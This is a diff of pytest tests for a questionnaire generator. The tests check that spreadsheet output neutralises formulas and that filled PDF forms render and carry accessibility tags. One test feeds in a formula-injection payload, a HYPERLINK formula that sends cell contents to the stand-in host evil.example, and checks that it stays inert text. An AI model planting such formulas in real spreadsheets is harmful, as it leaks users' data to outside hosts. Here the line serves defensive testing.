@@ -13,7 +13,7 @@ from readiness.collect.questionnaire import build_questionnaire, field_name
 from readiness.errors import InputError
 from readiness.framework.catalogue import load_catalogue
 
-from ..helpers import RunCli
+from ..helpers import RunCli, needs, pdf_catalog
 
 CATALOGUE = load_catalogue()
 
@@ -108,3 +108,111 @@ def test_workbooks_are_parsed_with_defusedxml() -> None:
     import openpyxl
 
     assert openpyxl.DEFUSEDXML, "install defusedxml: openpyxl then refuses XML entity bombs"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(
+    tmp_path: Path, run_cli: RunCli
+) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    site = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    out = tmp_path / "q.xlsx"
+    result = run_cli("questionnaire", "npt", "--site", site, "--format", "xlsx", "-o", out)
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out) as archive:
+        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
+    assert b"<f>" not in xml and b"<f " not in xml  # not a single formula cell
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.value for c in cells if c.value == site] == [site, site]  # intro and metadata
+    assert all(c.data_type != "f" for c in cells)
+
+
+def _fill(form: Path, target: Path, values: dict[str, str]) -> None:
+    import subprocess
+
+    body = "".join(
+        f'<field name="{name}"><value>{value}</value></field>' for name, value in values.items()
+    )
+    xfdf = target.with_suffix(".xfdf")
+    xfdf.write_text(
+        '<?xml version="1.0" encoding="UTF-8"?><xfdf xmlns="http://ns.adobe.com/xfdf/" '
+        f'xml:space="preserve"><fields>{body}</fields></xfdf>',
+        encoding="utf-8",
+    )
+    subprocess.run(
+        ["pdftk", str(form), "fill_form", str(xfdf), "output", str(target)],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+
+
+def _ink(pdf: Path, tmp_path: Path) -> bytes:
+    """Page 1 rendered by poppler, in greyscale."""
+    import subprocess
+
+    prefix = tmp_path / pdf.stem
+    subprocess.run(
+        ["pdftoppm", "-gray", "-r", "60", "-f", "1", "-l", "1", str(pdf), str(prefix)],
+        check=True,
+        timeout=60,
+    )
+    return next(tmp_path.glob(f"{pdf.stem}*.pgm")).read_bytes()
+
+
+@pytest.mark.slow
+@needs("pdftk")
+@needs("pdftoppm")
+def test_text_filled_by_pdftk_is_drawn_by_poppler_in_a_font_it_has(tmp_path: Path) -> None:
+    from readiness.collect.pdf_form import ID_FIELD, render_pdf_form
+
+    form = tmp_path / "q.pdf"
+    form.write_bytes(render_pdf_form(build_questionnaire(FRAMEWORKS[:1], "gp")))
+    thin, wide = tmp_path / "thin.pdf", tmp_path / "wide.pdf"
+    _fill(form, thin, {ID_FIELD: "iiiiiiii"})
+    _fill(form, wide, {ID_FIELD: "WWWWWWWW"})
+    # Empty boxes (a font without the glyphs) would look the same for both texts.
+    blank, drawn_thin, drawn_wide = (_ink(p, tmp_path) for p in (form, thin, wide))
+    assert drawn_thin != blank and drawn_wide != blank and drawn_thin != drawn_wide
+    ink = [sum(255 - b for b in image[20:]) for image in (drawn_thin, drawn_wide)]
+    assert ink[1] > ink[0]  # W is wider than i: real glyphs were drawn
+    field = next(
+        f.get_object()
+        for f in pdf_catalog(pypdf.PdfReader(wide))["/AcroForm"]["/Fields"]
+        if f.get_object()["/T"] == ID_FIELD
+    )
+    fonts = field["/AP"]["/N"]["/Resources"]["/Font"]
+    assert {str(f.get_object()["/BaseFont"]) for f in fonts.values()} == {"/Helvetica"}
+
+
+@needs("qpdf")
+def test_the_form_is_a_clean_tagged_field_tree_with_a_tooltip_per_field(tmp_path: Path) -> None:
+    import subprocess
+
+    from readiness.collect.pdf_form import render_pdf_form
+
+    form = tmp_path / "q.pdf"
+    questionnaire = build_questionnaire(FRAMEWORKS, None, "Test site")
+    form.write_bytes(render_pdf_form(questionnaire))
+    reader = pypdf.PdfReader(form)
+    root = pdf_catalog(reader)
+    fields = [f.get_object() for f in root["/AcroForm"]["/Fields"]]
+    assert not [f for f in fields if "/Parent" in f]  # top-level fields only
+    assert all(str(f["/TU"]) != str(f["/T"]) and str(f["/TU"]).strip() for f in fields)
+    sd1 = next(f for f in fields if str(f["/T"]).endswith("~SD1~answer"))
+    assert str(sd1["/TU"]) == "SD1. " + CATALOGUE.frameworks["five-mechanisms"].items["SD1"].text
+    assert root["/MarkInfo"]["/Marked"] and str(root["/Lang"]) == "en-GB"
+    assert "/StructTreeRoot" in root
+    generated = subprocess.run(
+        ["qpdf", "--generate-appearances", str(form), str(tmp_path / "g.pdf")],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert generated.returncode == 0, generated.stderr
+    assert "loop" not in generated.stderr.lower(), generated.stderr
+    text = "".join(page.extract_text() for page in reader.pages)
+    assert "For: GP, Practice nurse" in text and "lw manager" not in text  # role labels
